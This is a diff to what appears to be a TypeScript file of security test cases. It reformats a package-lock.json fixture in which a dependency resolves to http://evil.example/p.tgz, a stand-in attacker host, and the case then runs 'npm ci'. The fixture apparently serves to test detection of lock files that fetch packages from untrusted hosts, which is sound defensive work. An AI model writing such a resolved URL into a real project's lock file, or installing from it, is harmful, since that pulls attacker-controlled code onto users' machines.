@@ -76,8 +76,17 @@ export const hostCases: readonly BorrowedCase[] = family("hosts", [
     ...{ id: "npm-lock-resolved", title: "a lock file names a stranger's archive" },
     files: {
       "package.json": '{"name":"shop","version":"1.0.0","dependencies":{"p":"1.0.0"}}',
-      "package-lock.json":
-        '{"name":"shop","version":"1.0.0","lockfileVersion":3,"packages":{"":{"name":"shop","version":"1.0.0","dependencies":{"p":"1.0.0"}},"node_modules/p":{"version":"1.0.0","resolved":"http://evil.example/p.tgz","integrity":"sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="}}}',
+      "package-lock.json": JSON.stringify({
+        ...{ name: "shop", version: "1.0.0", lockfileVersion: 3 },
+        packages: {
+          "": { name: "shop", version: "1.0.0", dependencies: { p: "1.0.0" } },
+          "node_modules/p": {
+            ...{ version: "1.0.0", resolved: "http://evil.example/p.tgz" },
+            integrity:
+              "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
+          },
+        },
+      }),
     },
     acts: ["npm ci --fetch-retries=0"],
   },
